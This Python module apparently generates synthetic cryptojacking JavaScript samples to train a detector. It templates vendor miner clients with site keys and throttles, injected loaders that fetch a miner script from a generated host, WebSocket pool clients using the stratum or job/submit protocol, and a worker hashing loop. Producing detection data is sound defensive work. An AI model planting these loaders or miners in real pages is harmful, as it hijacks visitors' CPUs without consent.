"""Generated in-browser cryptominer code (loaders and pool clients), for training only.

Covers the shapes cryptojacking takes on a page: a vendor library's ``Anonymous``/``User``
client started with a site key and throttle; a hand-written pool client speaking the
job/submit protocol (or stratum) over a WebSocket with hashing in Web Workers or
WebAssembly; and the injected loader that fetches a miner library and starts it.
Vendor, host and field names vary so no single spelling carries the class.
"""

# ruff: noqa: E501  (JavaScript templates are kept one statement per line)

from __future__ import annotations

import random
import string

from bastion.scripts.datagen.skimmers import TLDS, WORDS

VENDORS = [
    "CoinHive",
    "CoinImp",
    "CryptoLoot",
    "Minero",
    "WebMinePool",
    "JSECoin",
    "CoinHave",
    "DeepMiner",
    "MineXMR",
    "WebXMR",
    "Crypta",
    "PPoi",
    "Mineralt",
    "Nerohut",
    "Monerise",
    "CryptoNoter",
    "Client",
    "Miner",
    "WMP",
    "CRLT",
    "Coinpot",
    "Hashing",
    "BrowserMine",
]
ALGOS = [
    "cryptonight",
    "cn",
    "cn-lite",
    "cryptonight-light",
    "cn/r",
    "randomx",
    "argon2",
    "cn-pico",
]


def _host(rng: random.Random) -> str:
    return (
        f"{rng.choice(WORDS)}{rng.choice(['', '-pool', 'mine', '-ws', 'proxy'])}.{rng.choice(TLDS)}"
    )


def _key(rng: random.Random) -> str:
    n = rng.choice([32, 40, 64])
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


def vendor_client(rng: random.Random) -> str:
    v = rng.choice(VENDORS)
    ctor = rng.choice(["Anonymous", "User", "Token", "Miner"])
    m = rng.choice(["miner", "_client", "m", "mnr", "worker"])
    opts = []
    if rng.random() < 0.8:
        opts.append(f"throttle: {rng.choice(['0.1', '0.2', '0.3', '0.5', '0.7', '0'])}")
    if rng.random() < 0.6:
        opts.append("threads: navigator.hardwareConcurrency || " + str(rng.choice([2, 4])))
    if rng.random() < 0.3:
        opts.append("autoThreads: true")
    if rng.random() < 0.3:
        opts.append(f"forceASMJS: {rng.choice(['false', 'true'])}")
    if rng.random() < 0.3:
        opts.append("c: " + rng.choice(['"w"', '"x"']))
    args = [f"'{_key(rng)}'"]
    if ctor == "User":
        args.append(f"'{rng.choice(['user', 'site', 'u'])}{rng.randint(1, 999)}'")
    if opts:
        args.append("{ " + ", ".join(opts) + " }")
    lines = [f"var {m} = new {v}.{ctor}({', '.join(args)});"]
    if rng.random() < 0.5:
        lines.append(f"if (!{m}.isMobile()) {{ {m}.start(); }}")
    else:
        lines.append(
            f"{m}.start({rng.choice(['', v + '.FORCE_EXCLUSIVE_TAB', v + '.IF_EXCLUSIVE_TAB'])});"
        )
    if rng.random() < 0.6:
        lines.append(
            f"setInterval(function () {{ var hps = {m}.getHashesPerSecond(); "
            f"var total = {m}.getTotalHashes(); var ok = {m}.getAcceptedHashes(); "
            f"console.log(hps, total, ok); }}, 1000);"
        )
    if rng.random() < 0.4:
        lines.append(f"{m}.on('found', function () {{ }});\n{m}.on('accepted', function () {{ }});")
    if rng.random() < 0.3:
        lines.append(f"{m}.setThrottle({rng.choice(['0.5', '0.8'])});")
    return "\n".join(lines)


def loader(rng: random.Random) -> str:
    url = f"https://{_host(rng)}/{rng.choice(['lib', 'js', 'static', ''])}/{rng.choice(['miner', 'm', 'c', 'base', 'worker', 'cryptonight', 'lib', 'bootstrap'])}.min.js"
    s = rng.choice(["s", "sc", "el", "t"])
    load = (
        f"var {s} = document.createElement('script');\n{s}.src = '{url}';\n"
        f"{s}.onload = function () {{\n{vendor_client(rng)}\n}};\n"
        f"document.head.appendChild({s});"
    )
    if rng.random() < 0.3:
        return f'<script src="{url}"></script>\n<script>\n{vendor_client(rng)}\n</script>'
    return load


def pool_client(rng: random.Random) -> str:
    """A hand-written pool client: WebSocket jobs, workers hashing, results submitted."""
    host = _host(rng)
    port = rng.choice([3333, 5555, 7777, 8080, 443, 8443, 45700, 14444])
    algo = rng.choice(ALGOS)
    stratum = rng.random() < 0.35
    ws = rng.choice(["ws", "socket", "conn", "pool"])
    worker_src = rng.choice(
        [
            "'worker.js'",
            "URL.createObjectURL(new Blob([workerCode]))",
            "'/js/cn.js'",
            "'https://" + _host(rng) + "/worker-" + algo.replace("/", "") + ".js'",
        ]
    )
    if stratum:
        login = (
            f"{ws}.send(JSON.stringify({{ id: 1, method: 'mining.subscribe', params: [] }}));\n"
            f"{ws}.send(JSON.stringify({{ id: 2, method: 'mining.authorize', params: ['{_key(rng)[:20]}', 'x'] }}));"
        )
        submit = "JSON.stringify({ id: 4, method: 'mining.submit', params: [job.job_id, e.data.nonce, e.data.result] })"
    else:
        login = (
            f"{ws}.send(JSON.stringify({{ type: 'auth', params: {{ site_key: '{_key(rng)}', "
            f"type: 'anonymous', user: null, goal: 0 }} }}));"
        )
        submit = "JSON.stringify({ type: 'submit', params: { job_id: job.job_id, nonce: e.data.nonce, result: e.data.result } })"
    threads = rng.choice(
        ["navigator.hardwareConcurrency", "4", "Math.max(1, navigator.hardwareConcurrency - 1)"]
    )
    wasm = ""
    if rng.random() < 0.5:
        wasm = (
            f"WebAssembly.instantiate(wasmBytes, {{ env: {{ memory: new WebAssembly.Memory({{ initial: 256 }}) }} }})"
            f".then(function (r) {{ hashFn = r.instance.exports.{algo.replace('-', '_').replace('/', '_')}_hash; }});\n"
        )
    return (
        f"var {ws} = new WebSocket('wss://{host}:{port}/{rng.choice(['', 'proxy', 'ws', 'pool'])}');\n"
        f"var workers = [], job = null, hashes = 0, throttle = {rng.choice(['0.2', '0.5', '0'])};\n"
        f"{wasm}"
        f"{ws}.onopen = function () {{\n{login}\n}};\n"
        f"{ws}.onmessage = function (msg) {{\n  var m = JSON.parse(msg.data);\n"
        f"  if (m.type === 'job' || m.method === 'job' || m.method === 'mining.notify') {{\n"
        f"    job = m.params;\n"
        f"    workers.forEach(function (w) {{ w.postMessage({{ blob: job.blob, target: job.target, "
        f"algo: '{algo}', throttle: throttle }}); }});\n  }}\n}};\n"
        f"for (var t = 0; t < {threads}; t++) {{\n"
        f"  var w = new Worker({worker_src});\n"
        f"  w.onmessage = function (e) {{\n    hashes += e.data.hashes || 1;\n"
        f"    if (e.data.nonce) {{ {ws}.send({submit}); }}\n  }};\n  workers.push(w);\n}}"
    )


def worker_loop(rng: random.Random) -> str:
    """The hashing side: a worker scanning nonces against a target."""
    algo = rng.choice(ALGOS)
    return (
        "var job = null, hashFn = null;\n"
        "onmessage = function (e) { job = e.data; if (!hashFn) { importScripts('"
        + algo.replace("/", "-")
        + ".js'); hashFn = Module.cwrap('"
        + algo.replace("-", "_").replace("/", "_")
        + "_hash', 'string', ['string', 'number']); } loop(); };\n"
        "function loop() {\n  var nonce = Math.floor(Math.random() * 4294967295), start = Date.now(), n = 0;\n"
        "  while (Date.now() - start < 1000 * (1 - job.throttle)) {\n"
        "    var input = job.blob.substr(0, 78) + ('00000000' + (nonce >>> 0).toString(16)).slice(-8) + job.blob.substr(86);\n"
        "    var hash = hashFn(input, " + str(rng.choice([0, 1, 2])) + ");\n    n++;\n"
        "    if (parseInt(hash.substr(56, 8), 16) < parseInt(job.target, 16)) {\n"
        "      postMessage({ nonce: nonce, result: hash, hashes: n }); n = 0;\n    }\n    nonce++;\n  }\n"
        "  postMessage({ hashes: n });\n  setTimeout(loop, 0);\n}"
    )


def generate(rng: random.Random) -> str:
    """One generated miner snippet."""
    r = rng.random()
    if r < 0.35:
        return vendor_client(rng)
    if r < 0.6:
        return loader(rng)
    if r < 0.85:
        return pool_client(rng)
    return worker_loop(rng)
